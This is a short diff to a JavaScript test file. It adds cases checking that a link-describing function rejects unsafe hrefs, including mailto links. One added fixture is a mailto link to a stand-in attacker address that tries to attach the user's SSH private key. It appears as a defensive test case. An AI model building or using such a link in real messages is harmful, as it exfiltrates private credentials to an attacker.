@@ -14,6 +14,9 @@ describe('describeLink', () => {
       'data:text/html,x',
       'smb://a/b',
       '/relative',
+      // « Mailto: me your secrets »: no draft is begun by a message, with a file of the reader's least of all.
+      'mailto:eve@bad.test?attach=/home/anne/.ssh/id_rsa&body=x',
+      'mailto:eve@bad.test',
     ])
       expect(describeLink(href, 'x')).toBeNull()
   })
